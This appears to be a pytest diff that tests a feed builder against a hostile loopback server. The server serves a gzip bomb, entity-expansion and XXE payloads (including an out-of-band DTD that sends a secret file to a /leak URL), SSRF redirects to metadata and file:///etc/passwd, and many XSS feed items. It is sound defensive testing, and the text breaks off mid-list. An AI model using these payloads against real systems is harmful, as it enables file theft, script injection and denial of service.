@@ -1,0 +1,1280 @@
+"""Fault injection: one hostile HTTP server on 127.0.0.1 whose paths each
+misbehave in one way (silence, trickles, resets, endless and huge bodies,
+gzip bombs, error statuses, redirect loops and redirects to loopback in many
+spellings, XML entity attacks, broken XML, hostile HTML in items), and a
+real `python -m feeds build` against each of them next to a healthy source.
+
+Every case asserts that the build:
+
+- ends within the bad source's time-out plus MARGIN seconds (interpreter
+  start, imports, storing and rendering included);
+- exits 1 naming the bad source with a reason a person understands, or 0
+  when the answer is recoverable and its items were read safely;
+- still publishes the healthy source's items in all.atom (feedparser, bozo 0);
+- stays under PEAK_RSS_MB of peak resident memory (os.wait4's ru_maxrss);
+- never connects anywhere but loopback: the build runs with a
+  `sitecustomize` that refuses (and logs) any other connect, the same rule
+  as conftest's `_loopback_only`, which only guards this process.
+
+The hostile-items cases then parse every output file and look for anything
+executable (script, iframe, object, embed, style, meta refresh, on*
+attributes, javascript:/vbscript:/data: URLs).
+"""
+
+from __future__ import annotations
+
+import contextlib
+import html
+import ipaddress
+import json
+import os
+import re
+import select
+import socket
+import struct
+import subprocess
+import sys
+import threading
+import time
+import uuid
+import xml.etree.ElementTree as ET
+import zlib
+from collections.abc import Callable, Iterator
+from dataclasses import dataclass, field, replace
+from html.parser import HTMLParser
+from pathlib import Path
+
+import feedparser
+import pytest
+
+from .conftest import BASE_CONFIG, ROOT, write_config
+
+#: Time-out of the bad source, in seconds (the healthy one gets HEALTHY_TIMEOUT).
+TIMEOUT = 2.0
+HEALTHY_TIMEOUT = 5.0
+#: Allowed on top of the bad source's time-out for the whole build: Python's
+#: start and imports (~0.7 s here), storing, rendering and publishing.
+MARGIN = 5.0
+#: A build still running this long after its limit is killed (and fails).
+HARD_EXTRA = 3.0
+#: Peak RSS of the build process. A healthy two-source build measures
+#: 46-51 MB here; this leaves room without letting a blow-up through.
+PEAK_RSS_MB = 200
+#: Server side, no misbehaviour lasts longer than this (or the client leaving).
+SERVER_BOUND = 60.0
+
+PUB = "Mon, 23 Nov 2026 10:00:00 +0300"
+
+
+# --------------------------------------------------------------------------
+# Documents
+
+
+def rss(*items: str, title: str = "Feed") -> bytes:
+    return (
+        '<?xml version="1.0" encoding="utf-8"?>\n'
+        '<rss version="2.0" xmlns:content="http://purl.org/rss/1.0/modules/content/">'
+        f"<channel><title>{title}</title><link>http://bad.example/</link>"
+        "<description>d</description>\n" + "\n".join(items) + "\n</channel></rss>\n"
+    ).encode("utf-8")
+
+
+def item(title: str, link: str, description: str = "", extra: str = "") -> str:
+    body = f"<description>{description}</description>" if description else ""
+    return (
+        f"<item><title>{title}</title><link>{link}</link>{body}{extra}"
+        f"<pubDate>{PUB}</pubDate></item>"
+    )
+
+
+HEALTHY_TITLES = ("Healthy item one", "Healthy item two")
+HEALTHY = rss(
+    item(HEALTHY_TITLES[0], "http://healthy.example/1", "First healthy lead"),
+    item(HEALTHY_TITLES[1], "http://healthy.example/2", "Second healthy lead"),
+    title="Healthy",
+)
+# What the misbehaving paths pretend to send.
+BAD_FEED = rss(
+    item("Bad item one", "http://bad.example/1", "x" * 200),
+    item("Bad item two", "http://bad.example/2", "y" * 200),
+)
+
+
+def with_doctype(doctype: str, *items: str) -> bytes:
+    """An RSS document with an internal DTD subset before its root."""
+    body = rss(*items).decode("utf-8").split("\n", 1)[1]
+    return ('<?xml version="1.0"?>\n<!DOCTYPE rss [\n' + doctype + "\n]>\n" + body).encode()
+
+
+def billion_laughs() -> bytes:
+    """Ten levels of ten references each: 10^9 "lol"s from 1 KB."""
+    lines = ['<!ENTITY lol "lol">', '<!ENTITY lol1 "' + "&lol;" * 10 + '">']
+    lines += [f'<!ENTITY lol{n} "' + f"&lol{n - 1};" * 10 + '">' for n in range(2, 10)]
+    return with_doctype(
+        "\n".join(lines),
+        item("Laughing &lol9;", "http://bad.example/laugh", "&lol9;"),
+        item("Laugh-free item", "http://bad.example/plain", "plain"),
+    )
+
+
+def quadratic_blowup() -> bytes:
+    """One 10 KB entity referenced 10 000 times: 40 KB that expand to 100 MB."""
+    return with_doctype(
+        '<!ENTITY a "' + "x" * 10_000 + '">',
+        item("Quadratic", "http://bad.example/q", "&a;" * 10_000),
+        item("Blow-up-free item", "http://bad.example/plain", "plain"),
+    )
+
+
+def xxe(secret: Path) -> bytes:
+    return with_doctype(
+        f'<!ENTITY xxe SYSTEM "{secret.as_uri()}">',
+        item("Secret &xxe;", "http://bad.example/xxe", "&xxe;"),
+        item("XXE-free item", "http://bad.example/plain", "plain"),
+    )
+
+
+def xxe_out_of_band(other: str, secret: Path) -> bytes:
+    """A parameter entity pulls a DTD from another port, which would send
+    the secret file back in a URL."""
+    return with_doctype(
+        f'<!ENTITY % file SYSTEM "{secret.as_uri()}">\n'
+        f'<!ENTITY % dtd SYSTEM "{other}/evil.dtd">\n%dtd;',
+        item("Out of band &send;", "http://bad.example/oob", "&send;"),
+        item("OOB-free item", "http://bad.example/plain", "plain"),
+    )
+
+
+UNESCAPED_AMP = rss(
+    item("Salt & pepper", "http://bad.example/amp1", "Fish & chips"),
+    item("Rock & roll", "http://bad.example/amp2?a=1&b=2", "Tom & Jerry"),
+)
+_FULL = rss(
+    item("Whole item one", "http://bad.example/t1", "complete"),
+    item("Whole item two", "http://bad.example/t2", "complete"),
+    item("Cut item three", "http://bad.example/t3", "this one is cut " * 20),
+)
+TRUNCATED = _FULL[: _FULL.index(b"this one is cut") + 30]
+INVALID_UTF8 = rss(
+    item("Broken bytes \xff one", "http://bad.example/u1", "lead"),
+    item("Broken bytes two", "http://bad.example/u2", "lead"),
+).replace("\xff".encode(), b"\xff\xfe\xc3\x28")
+HTML_PAGE = (
+    b"<!DOCTYPE html><html><head><title>Welcome</title></head>"
+    b"<body><h1>Our news</h1><p>No feed here.</p></body></html>"
+)
+
+# --- hostile items ----------------------------------------------------------
+
+#: Text every hostile case keeps: the sanitiser must not drop everything.
+KEPT = "kept paragraph"
+XSS_BITS = [
+    "<script>alert('s1')</script>",
+    "<SCRIPT SRC=http://evil.example/x.js></SCRIPT>",
+    "<img src=x onerror=alert('e1')>",
+    "<body onload=alert('l1')>",
+    '<a onclick="alert(\'c1\')" href="http://ok.example/">click</a>',
+    "<a href=\"javascript:alert('j1')\">j</a>",
+    "<a href=\"JaVaScRiPt:%20alert('j2')\">J</a>",
+    "<a href=\" javascript:alert('j3')\">space</a>",
+    "<a href=\"jav&#x09;ascript:alert('j4')\">tab</a>",
+    "<a href=\"&#106;avascript:alert('j5')\">entity</a>",
+    "<a href=\"vbscript:msgbox('v1')\">vb</a>",
+    "<a href=\"data:text/html,&lt;script&gt;alert('d1')&lt;/script&gt;\">data</a>",
+    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
+    "<svg onload=alert('g1')><circle r=1 /></svg>",
+    "<svg><script>alert('g2')</script></svg>",
+    "<math><mi xlink:href=\"javascript:alert('m1')\">m</mi></math>",
+    '<iframe src="http://evil.example/"></iframe>',
+    '<object data="http://evil.example/x.swf"></object>',
+    '<embed src="http://evil.example/x.swf">',
+    "<style>body{background:url(javascript:alert('st'))}</style>",
+    "<p style=\"background:url(javascript:alert('sa'))\">styled</p>",
+    '<meta http-equiv="refresh" content="0;url=javascript:alert(\'r1\')">',
+    "<base href=\"javascript:alert('b1')//\">",
+    "<form action=\"javascript:alert('f1')\"><button formaction=\"javascript:alert('f2')\">"
+    "go</button></form>",
+    '<link rel=stylesheet href="http://evil.example/x.css">',
+    "<div><p>" + KEPT + "</p></div>",
+]
+XSS_HTML = "".join(XSS_BITS)
+
+
+def cdata(text: str) -> str:
+    return "<![CDATA[" + text.replace("]]>", "]]]]><![CDATA[>") + "]]>"
+
+
+HOSTILE_RSS = rss(
+    item(cdata("<script>alert('t1')</script>Script title"), "http://ok.example/1", cdata(XSS_HTML)),
+    item(
+        "&lt;script&gt;alert('t2')&lt;/script&gt;Entity title",
+        "http://ok.example/2",
+        html.escape(XSS_HTML),
+    ),
+    item(
+        "&lt;img src=x onerror=alert('t3')&gt;Img title",
+        "javascript:alert('link1')",
+        "&lt;p&gt;" + KEPT + "&lt;/p&gt;",
+    ),
+    item(
+        "Data link",
+        "data:text/html,<b>x</b>",
+        "&lt;p&gt;" + KEPT + "&lt;/p&gt;",
+        extra="<guid>javascript:alert('guid1')</guid>",
+    ),
+    # ]]> inside CDATA, split so that joining the parts gives a script.
+    item(
+        "CDATA split",
+        "http://ok.example/5",
+        "<![CDATA[<p>" + KEPT + "</p><scr]]><![CDATA[ipt>alert('cd1')</scr]]><![CDATA[ipt>]]>",
+    ),
+    # Nested CDATA: the first ]]> ends it, the rest is bad XML.
+    item(
+        "CDATA nested",
+        "http://ok.example/6",
+        "<![CDATA[<p>" + KEPT + "</p><![CDATA[<script>alert('cd2')</script>]]>]]>",
+    ),
+    item(
+        "Content encoded",
+        "http://ok.example/7",
+        "&lt;p&gt;" + KEPT + "&lt;/p&gt;",
+        extra="<content:encoded>" + cdata(XSS_HTML) + "</content:encoded>"
+        "<author>x@example.org (&lt;script&gt;alert('a1')&lt;/script&gt;)</author>",
+    ),
+    title="Hostile &lt;script&gt;alert('feed')&lt;/script&gt;",
+)
+
+HOSTILE_ATOM = (
+    '<?xml version="1.0" encoding="utf-8"?>\n'
+    '<feed xmlns="http://www.w3.org/2005/Atom" xml:base="javascript:alert(\'base\')//">'
+    "<title>Hostile atom</title><id>urn:x:hostile</id><updated>2026-11-23T10:00:00Z</updated>"
+    "<entry><id>urn:x:a1</id><updated>2026-11-23T10:00:00Z</updated>"
+    "<title type=\"html\">&lt;img src=x onerror=alert('at1')&gt;Atom html title</title>"
+    "<link href=\"javascript:alert('al1')\"/>"
+    '<summary type="html">' + html.escape(XSS_HTML) + "</summary>"
+    '<content type="xhtml"><div xmlns="http://www.w3.org/1999/xhtml">'
+    "<script>alert('ax1')</script><a href=\"javascript:alert('ax2')\">x</a>"
+    '<img src="x" onerror="alert(\'ax3\')"/><a href="relative/path">rel</a>'
+    "<p>" + KEPT + "</p></div></content></entry>"
+    "<entry><id>urn:x:a2</id><updated>2026-11-23T10:00:00Z</updated>"
+    "<title type=\"text\">&lt;script&gt;alert('at2')&lt;/script&gt;Atom text title</title>"
+    '<link href="relative/entry"/>'
+    '<content type="html">' + html.escape(XSS_HTML) + "</content></entry>"
+    "</feed>\n"
+).encode("utf-8")
+
+HOSTILE_JSON = json.dumps(
+    {
+        "version": "https://jsonfeed.org/version/1.1",
+        "title": "Hostile json",
+        "home_page_url": "javascript:alert('home')",
+        "items": [
+            {
+                "id": "j1",
+                "url": "javascript:alert('ju1')",
+                "title": "<img src=x onerror=alert('jt1')>JSON title",
+                "content_html": XSS_HTML,
+                "summary": "<script>alert('js1')</script>summary",
+                "date_published": "2026-11-23T10:00:00+03:00",
+                "authors": [{"name": "<script>alert('ja1')</script>"}],
+            },
+            {
+                "id": "j2",
+                "external_url": "data:text/html,<script>alert('ju2')</script>",
+                "title": "JSON second",
+                "content_text": "<script>alert('jc2')</script> as text",
+                "date_published": "2026-11-23T10:00:00+03:00",
+            },
+        ],
+    }
+).encode("utf-8")
+
+
+def gzip_bomb() -> bytes:
+    """~4 MB of gzip that inflates to 4 GiB of zeros: one 64 MiB member,
+    compressed once in a streaming way, repeated 64 times (concatenated gzip
+    members are one valid gzip stream)."""
+    packer = zlib.compressobj(9, zlib.DEFLATED, 31)
+    zeros = bytes(1 << 20)
+    member = b"".join(packer.compress(zeros) for _ in range(64)) + packer.flush()
+    return member * 64
+
+
+# --------------------------------------------------------------------------
+# The hostile server
+
+
+Handler = Callable[["Conn"], None]
+
+
+@dataclass
+class Conn:
+    """One accepted connection and the server it belongs to."""
+
+    sock: socket.socket
+    path: str
+    server: HostileServer
+
+    def send(self, data: bytes) -> bool:
+        """False when the client has gone (or the server stops)."""
+        if self.server.stopped.is_set():
+            return False
+        try:
+            self.sock.sendall(data)
+        except OSError:
+            return False
+        return True
+
+    def wait_gone(self, seconds: float) -> bool:
+        """Wait up to `seconds`; True as soon as the client closed (or the
+        server stops), False when the time is up with the client still there."""
+        end = time.monotonic() + seconds
+        while (left := end - time.monotonic()) > 0:
+            if self.server.stopped.is_set():
+                return True
+            readable, _, _ = select.select([self.sock], [], [], min(0.2, left))
+            if readable:
+                try:
+                    if not self.sock.recv(4096):
+                        return True
+                except OSError:
+                    return True
+        return False
+
+    def answer(self, status: str, body: bytes = b"", **headers: str) -> None:
+        head = [f"HTTP/1.1 {status}"]
+        head += [f"{name.replace('_', '-')}: {value}" for name, value in headers.items()]
+        if "Content_Length" not in headers and "Transfer_Encoding" not in headers:
+            head.append(f"Content-Length: {len(body)}")
+        head.append("Connection: close")
+        self.send(("\r\n".join(head) + "\r\n\r\n").encode("latin-1") + body)
+
+    def redirect(self, location: str, status: str = "302 Found") -> None:
+        self.answer(status, b"", Location=location)
+
+
+@dataclass
+class HostileServer:
+    """A threaded raw-socket HTTP server on loopback. Every handler loop is
+    bounded by SERVER_BOUND and ends when the client leaves or on stop()."""
+
+    routes: dict[str, Handler]
+    hosts: tuple[str, ...] = ("127.0.0.1",)
+    port: int = 0
+    stopped: threading.Event = field(default_factory=threading.Event)
+    hits: list[str] = field(default_factory=list)
+    _listeners: list[socket.socket] = field(default_factory=list)
+    _threads: list[threading.Thread] = field(default_factory=list)
+    _open: set[socket.socket] = field(default_factory=set)
+    _lock: threading.Lock = field(default_factory=threading.Lock)
+
+    @property
+    def url(self) -> str:
+        return f"http://127.0.0.1:{self.port}"
+
+    def start(self) -> HostileServer:
+        for host in self.hosts:
+            family = socket.AF_INET6 if ":" in host else socket.AF_INET
+            listener = socket.socket(family, socket.SOCK_STREAM)
+            try:
+                if family == socket.AF_INET6:
+                    listener.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_V6ONLY, 1)
+                listener.bind((host, self.port))
+            except OSError:
+                listener.close()
+                if not self._listeners:
+                    raise
+                continue  # e.g. no IPv6 loopback: serve IPv4 only
+            listener.listen(64)
+            listener.settimeout(0.2)
+            self.port = listener.getsockname()[1]
+            self._listeners.append(listener)
+            self._spawn(self._accept, listener)
+        return self
+
+    @property
+    def ipv6(self) -> bool:
+        return any(listener.family == socket.AF_INET6 for listener in self._listeners)
+
+    def hit_count(self, path: str) -> int:
+        with self._lock:
+            return sum(1 for seen in self.hits if seen == path)
+
+    def stop(self) -> None:
+        self.stopped.set()
+        with self._lock:
+            for sock in list(self._open):
+                with contextlib.suppress(OSError):
+                    sock.shutdown(socket.SHUT_RDWR)
+        for thread in list(self._threads):
+            thread.join(timeout=5)
+        for listener in self._listeners:
+            listener.close()
+        alive = [t.name for t in self._threads if t.is_alive()]
+        assert not alive, f"server threads still running: {alive}"
+
+    def _spawn(self, target: Callable[..., None], *args: object) -> None:
+        thread = threading.Thread(target=target, args=args, daemon=True)
+        with self._lock:
+            self._threads = [t for t in self._threads if t.is_alive()]
+            self._threads.append(thread)
+        thread.start()
+
+    def _accept(self, listener: socket.socket) -> None:
+        while not self.stopped.is_set():
+            try:
+                sock, _ = listener.accept()
+            except TimeoutError:
+                continue
+            except OSError:
+                return
+            with self._lock:
+                self._open.add(sock)
+            self._spawn(self._serve, sock)
+
+    def _serve(self, sock: socket.socket) -> None:
+        try:
+            sock.settimeout(10)
+            head = b""
+            deadline = time.monotonic() + 10
+            while b"\r\n\r\n" not in head and time.monotonic() < deadline:
+                chunk = sock.recv(4096)
+                if not chunk:
+                    return
+                head += chunk
+            path = head.split(b" ", 2)[1].decode("latin-1") if head.count(b" ") >= 2 else "/"
+            with self._lock:
+                self.hits.append(path)
+            handler = self.routes.get(path)
+            conn = Conn(sock, path, self)
+            if handler is None:
+                conn.answer("404 Not Found", b"no such path")
+            else:
+                handler(conn)
+        except OSError:
+            pass
+        finally:
+            with self._lock:
+                self._open.discard(sock)
+            with contextlib.suppress(OSError):
+                sock.close()
+
+
+# --- misbehaviours ----------------------------------------------------------
+
+
+def static(
+    body: bytes,
+    content_type: str = "application/rss+xml; charset=utf-8",
+    status: str = "200 OK",
+    **headers: str,
+) -> Handler:
+    def handle(conn: Conn) -> None:
+        conn.answer(status, body, Content_Type=content_type, **headers)
+
+    return handle
+
+
+def silent(conn: Conn) -> None:
+    conn.wait_gone(SERVER_BOUND)
+
+
+def late(conn: Conn) -> None:
+    if not conn.wait_gone(TIMEOUT + 1.5):
+        static(BAD_FEED)(conn)
+
+
+def trickle(conn: Conn) -> None:
+    head = (
+        "HTTP/1.1 200 OK\r\nContent-Type: application/rss+xml\r\n"
+        f"Content-Length: {len(BAD_FEED)}\r\nConnection: close\r\n\r\n"
+    ).encode()
+    if not conn.send(head):
+        return
+    end = time.monotonic() + SERVER_BOUND
+    for index in range(len(BAD_FEED)):
+        if time.monotonic() > end or not conn.send(BAD_FEED[index : index + 1]):
+            return
+        if conn.wait_gone(1.0):
+            return
+
+
+def trickle_headers(conn: Conn) -> None:
+    """The status line and headers, one byte a second, never finished."""
+    head = b"HTTP/1.1 200 OK\r\nContent-Type: application/rss+xml\r\nX-Slow: " + b"a" * 10_000
+    end = time.monotonic() + SERVER_BOUND
+    for index in range(len(head)):
+        if time.monotonic() > end or not conn.send(head[index : index + 1]):
+            return
+        if conn.wait_gone(1.0):
+            return
+
+
+def reset(conn: Conn) -> None:
+    half = BAD_FEED[: len(BAD_FEED) // 2]
+    head = (
+        "HTTP/1.1 200 OK\r\nContent-Type: application/rss+xml\r\n"
+        f"Content-Length: {len(BAD_FEED)}\r\n\r\n"
+    ).encode()
+    if conn.send(head + half):
+        time.sleep(0.2)
+        conn.sock.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
+        # the caller's close() now sends RST instead of FIN
+
+
+def short(conn: Conn) -> None:
+    """Content-Length promises more than comes; then a clean close (FIN)."""
+    half = BAD_FEED[: len(BAD_FEED) // 2]
+    conn.answer(
+        "200 OK", half, Content_Type="application/rss+xml", Content_Length=str(len(BAD_FEED))
+    )
+
+
+def endless(conn: Conn) -> None:
+    head = (
+        b"HTTP/1.1 200 OK\r\nContent-Type: application/rss+xml\r\n"
+        b"Transfer-Encoding: chunked\r\n\r\n"
+    )
+
+    def chunk(data: bytes) -> bytes:
+        return f"{len(data):x}\r\n".encode() + data + b"\r\n"
+
+    if not conn.send(head + chunk(b'<?xml version="1.0"?><rss version="2.0"><channel>')):
+        return
+    piece = chunk(b"<item><title>again</title><link>http://bad.example/e</link></item>" * 60)
+    end = time.monotonic() + SERVER_BOUND
+    # ~4 KB every 50 ms: 80 KB/s, far below max_bytes within the time-out.
+    while time.monotonic() < end:
+        if not conn.send(piece) or conn.wait_gone(0.05):
+            return
+
+
+def huge_length(conn: Conn) -> None:
+    head = (
+        b"HTTP/1.1 200 OK\r\nContent-Type: application/rss+xml\r\n"
+        b"Content-Length: 10000000000\r\n\r\n"
+    )
+    if conn.send(head + BAD_FEED[:100]):
+        conn.wait_gone(SERVER_BOUND)
+
+
+def make_gzip_bomb_handler(bomb: bytes) -> Handler:
+    def handle(conn: Conn) -> None:
+        conn.answer("200 OK", bomb, Content_Type="application/rss+xml", Content_Encoding="gzip")
+
+    return handle
+
+
+def redirect_to(location: str, delay: float = 0.0) -> Handler:
+    def handle(conn: Conn) -> None:
+        if delay and conn.wait_gone(delay):
+            return
+        conn.redirect(location)
+
+    return handle
+
+
+# --------------------------------------------------------------------------
+# Fixtures
+
+
+@dataclass
+class Bed:
+    hostile: HostileServer
+    other: HostileServer
+    secret: Path
+    marker: str
+    site: Path
+    closed_port: int
+
+
+SITECUSTOMIZE = '''\
+"""Test harness: the build may connect to loopback only (like conftest's
+_loopback_only). Any other connect is refused before it happens and logged."""
+import ipaddress, os, socket
+
+_real_connect = socket.socket.connect
+_log = os.environ.get("HOSTILE_CONNECT_LOG", "")
+
+
+def _loopback(host):
+    try:
+        address = ipaddress.ip_address(host.split("%", 1)[0])
+    except ValueError:
+        return False
+    mapped = getattr(address, "ipv4_mapped", None)
+    return (mapped or address).is_loopback
+
+
+def _guarded(self, address):
+    if isinstance(address, tuple) and self.family in (socket.AF_INET, socket.AF_INET6):
+        host = str(address[0])
+        if not _loopback(host):
+            if _log:
+                with open(_log, "a", encoding="utf-8") as out:
+                    out.write(f"{host} {address[1]}\\n")
+            raise ConnectionRefusedError(111, f"test harness: {host} is not loopback")
+    return _real_connect(self, address)
+
+
+socket.socket.connect = _guarded
+'''
+
+
+@pytest.fixture(scope="module")
+def bed(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Bed]:
+    base = tmp_path_factory.mktemp("hostile")
+    marker = f"XXE-MARKER-{uuid.uuid4().hex}"
+    secret = base / "secret.txt"
+    secret.write_text(f"{marker}\n", encoding="utf-8")
+    site = base / "site"
+    site.mkdir()
+    (site / "sitecustomize.py").write_text(SITECUSTOMIZE, encoding="utf-8")
+
+    # The second server: another loopback port, never listed in allow_private.
+    other = HostileServer(routes={}, hosts=("127.0.0.1", "::1")).start()
+    other.routes.update(
+        {
+            "/ok": static(rss(item("Other port item", "http://other.example/1"))),
+            "/evil.dtd": static(
+                f"<!ENTITY % all \"<!ENTITY send SYSTEM '{other.url}/leak?%file;'>\">"
+                "%all;".encode(),
+                "application/xml-dtd",
+            ),
+        }
+    )
+    port = other.port
+    routes: dict[str, Handler] = {
+        "/ok": static(HEALTHY),
+        "/silent": silent,
+        "/late": late,
+        "/trickle": trickle,
+        "/trickle-headers": trickle_headers,
+        "/reset": reset,
+        "/short": short,
+        "/endless": endless,
+        "/huge-length": huge_length,
+        "/gzip-bomb": make_gzip_bomb_handler(gzip_bomb()),
+        "/500": static(b"oops", "text/plain", "500 Internal Server Error"),
+        "/503": static(b"busy", "text/plain", "503 Service Unavailable", Retry_After="120"),
+        "/429": static(b"slow down", "text/plain", "429 Too Many Requests", Retry_After="60"),
+        "/loop": redirect_to("/loop"),
+        "/to-localhost": redirect_to(f"http://localhost:{port}/ok"),
+        "/to-ipv6-loopback": redirect_to(f"http://[::1]:{port}/ok"),
+        "/to-ipv4-mapped": redirect_to(f"http://[::ffff:127.0.0.1]:{port}/ok"),
+        "/to-decimal": redirect_to(f"http://2130706433:{port}/ok"),
+        "/to-hex": redirect_to(f"http://0x7f000001:{port}/ok"),
+        "/to-short-dotted": redirect_to(f"http://127.1:{port}/ok"),
+        "/to-other-port": redirect_to(f"http://127.0.0.1:{port}/ok"),
+        "/to-metadata": redirect_to("http://169.254.169.254/latest/meta-data"),
+        "/to-file": redirect_to("file:///etc/passwd"),
+        "/to-ftp": redirect_to("ftp://example.org/x"),
+        "/billion-laughs": static(billion_laughs()),
+        "/quadratic-blowup": static(quadratic_blowup()),
+        "/xxe": static(xxe(secret)),
+        "/xxe-oob": static(xxe_out_of_band(other.url, secret)),
+        "/unescaped-amp": static(UNESCAPED_AMP),
+        "/truncated": static(TRUNCATED),
+        "/invalid-utf8": static(INVALID_UTF8),
+        "/html-page": static(HTML_PAGE, "text/html; charset=utf-8"),
+        "/empty": static(b""),
+        "/hostile-rss": static(HOSTILE_RSS),
+        "/hostile-atom": static(HOSTILE_ATOM, "application/atom+xml; charset=utf-8"),
+        "/hostile-json": static(HOSTILE_JSON, "application/feed+json"),
+    }
+    for hop in range(12):  # /chain/0 -> /chain/1 -> ... -> /chain/12 (= /ok)
+        routes[f"/chain/{hop}"] = redirect_to(f"/chain/{hop + 1}")
+    routes["/chain/12"] = static(
+        HEALTHY.replace(b"Healthy item", b"Chained item").replace(b"healthy.", b"chained.")
+    )
+    for hop in range(5):  # five hops (the limit), each answered after 1.8 s, then a feed
+        routes[f"/slow-hops/{hop}"] = redirect_to(f"/slow-hops/{hop + 1}", delay=1.8)
+    routes["/slow-hops/5"] = static(BAD_FEED)
+    hostile = HostileServer(routes=routes).start()
+    # A loopback port nobody listens on: bound, then closed at once.
+    with socket.socket() as probe:
+        probe.bind(("127.0.0.1", 0))
+        closed_port = probe.getsockname()[1]
+    try:
+        yield Bed(
+            hostile=hostile,
+            other=other,
+            secret=secret,
+            marker=marker,
+            site=site,
+            closed_port=closed_port,
+        )
+    finally:
+        hostile.stop()
+        other.stop()
+
+
+# --------------------------------------------------------------------------
+# Running a build
+
+
+@dataclass
+class Build:
+    code: int
+    seconds: float
+    peak_mb: float
+    stdout: str
+    stderr: str
+    killed: bool
+    connects: list[str]
+    folder: Path
+
+    @property
+    def output(self) -> Path:
+        return self.folder / "output"
+
+    def failure_lines(self, source: str) -> list[str]:
+        """The final report's lines for a failed source (`FAILED source 'x': …`)."""
+        return [
+            line
+            for line in self.stderr.splitlines()
+            if line.startswith(f"FAILED source '{source}'")
+        ]
+
+
+def run_build(folder: Path, bed: Bed, bad_url: str, limit: float) -> Build:
+    sources = (
+        f"  - name: good\n    type: feed\n    url: {bed.hostile.url}/ok\n"
+        f"    timeout: {HEALTHY_TIMEOUT:g}\n"
+        f"  - name: bad\n    type: feed\n    url: {bad_url}\n    timeout: {TIMEOUT:g}\n"
+    )
+    config = write_config(folder, sources, BASE_CONFIG)
+    connect_log = folder / "non-loopback-connects.log"
+    env = {
+        **os.environ,
+        "PYTHONPATH": f"{bed.site}{os.pathsep}{ROOT}",
+        "HOSTILE_CONNECT_LOG": str(connect_log),
+    }
+    out_path, err_path = folder / "stdout.txt", folder / "stderr.txt"
+    killed = False
+    with out_path.open("wb") as out, err_path.open("wb") as err:
+        started = time.monotonic()
+        process = subprocess.Popen(
+            [sys.executable, "-m", "feeds", "build", "-c", str(config)],
+            cwd=folder,
+            env=env,
+            stdin=subprocess.DEVNULL,
+            stdout=out,
+            stderr=err,
+        )
+        while True:
+            pid, status, usage = os.wait4(process.pid, os.WNOHANG)
+            if pid:
+                break
+            if time.monotonic() - started > limit + HARD_EXTRA:
+                process.kill()
+                pid, status, usage = os.wait4(process.pid, 0)
+                killed = True
+                break
+            time.sleep(0.01)
+        seconds = time.monotonic() - started
+        process.returncode = os.waitstatus_to_exitcode(status)
+    connects = connect_log.read_text().splitlines() if connect_log.exists() else []
+    return Build(
+        code=process.returncode,
+        seconds=seconds,
+        peak_mb=usage.ru_maxrss / 1024,  # KiB on Linux
+        stdout=out_path.read_text(errors="replace"),
+        stderr=err_path.read_text(errors="replace"),
+        killed=killed,
+        connects=connects,
+        folder=folder,
+    )
+
+
+def atom_titles(build: Build) -> list[str]:
+    path = build.output / "all.atom"
+    assert path.exists(), f"no all.atom; stderr:\n{build.stderr[-2000:]}"
+    parsed = feedparser.parse(path.read_bytes())
+    assert not parsed.bozo, f"all.atom is not a clean feed: {parsed.get('bozo_exception')}"
+    return [entry.title for entry in parsed.entries]
+
+
+# --------------------------------------------------------------------------
+# The cases
+
+
+@dataclass(frozen=True)
+class Case:
+    id: str
+    path: str
+    #: Exit codes accepted: 1 for a failed source, 0 where the answer is
+    #: recoverable and read safely.
+    codes: tuple[int, ...] = (1,)
+    #: When the source fails: words its stderr line must all contain...
+    words: tuple[str, ...] = ()
+    #: ... and at least one of these (spellings of one idea).
+    any_words: tuple[str, ...] = ()
+    #: When the build exits 0: titles of the bad source that must be published.
+    bad_titles: tuple[str, ...] = ()
+    #: Text no output file may contain (an expansion, a leaked secret).
+    never: tuple[str, ...] = ()
+    #: Words the failure line must not contain (a misleading reason).
+    not_words: tuple[str, ...] = ()
+    #: "hostile": `path` on the hostile server; "closed": a loopback port
+    #: nobody listens on (listed in allow_private like the others).
+    target: str = "hostile"
+    slow: bool = False
+
+
+def case(*args: object, **kwargs: object) -> object:
+    made = Case(*args, **kwargs)  # type: ignore[arg-type]
+    marks = [pytest.mark.slow] if made.slow else []
+    return pytest.param(made, id=made.id, marks=marks)
+
+
+REFUSED = ("refused",)
+CASES = [
+    # --- time ---
+    case("silent", "/silent", words=("no answer within 2 s",), slow=True),
+    case("late", "/late", words=("no answer within 2 s",), slow=True),
+    case("trickle", "/trickle", words=("not complete after 2 s",), slow=True),
+    case(
+        "trickle-headers",
+        "/trickle-headers",
+        any_words=("no answer within 2 s", "not complete after 2 s"),
+        slow=True,
+    ),
+    case(
+        "slow-hops",
+        "/slow-hops/0",
+        any_words=("no answer within 2 s", "not complete after 2 s"),
+        slow=True,
+    ),
+    case("endless", "/endless", words=("not complete after 2 s",), slow=True),
+    case(
+        "connection-refused",
+        "/feed",
+        target="closed",
+        any_words=("refused", "connect"),
+        not_words=("no answer within",),
+    ),
+    case("reset", "/reset", words=("connection",), any_words=("reset", "broken")),
+    case(
+        "short-body",
+        "/short",
+        words=("connection",),
+        any_words=("incomplete", "broken", "expected"),
+    ),
+    # --- size ---
+    case("huge-length", "/huge-length", words=("10000000000", "over the limit")),
+    case("gzip-bomb", "/gzip-bomb", words=("over the limit",)),
+    # --- status ---
+    case("http-500", "/500", words=("HTTP 500",)),
+    case("http-503-retry-after", "/503", words=("HTTP 503", "retry after 120")),
+    case("http-429-retry-after", "/429", words=("HTTP 429", "retry after 60")),
+    # --- redirects ---
+    case("redirect-loop", "/loop", words=("redirects",)),
+    case("redirect-chain-12", "/chain/0", words=("more than 5 redirects",)),
+    case("redirect-chain-5", "/chain/7", codes=(0,), bad_titles=("Chained item one",)),
+    case("to-localhost", "/to-localhost", words=REFUSED),
+    case("to-ipv6-loopback", "/to-ipv6-loopback", words=REFUSED),
+    case("to-ipv4-mapped", "/to-ipv4-mapped", words=REFUSED, any_words=("loopback",)),
+    case("to-decimal-2130706433", "/to-decimal", words=REFUSED, any_words=("loopback",)),
+    case("to-hex-0x7f000001", "/to-hex", words=REFUSED, any_words=("loopback",)),
+    case("to-127.1", "/to-short-dotted", words=REFUSED, any_words=("loopback",)),
+    case(
+        "to-other-loopback-port", "/to-other-port", words=("refused", "loopback", "allow_private")
+    ),
+    case("to-169.254.169.254", "/to-metadata", words=REFUSED, any_words=("link-local",)),
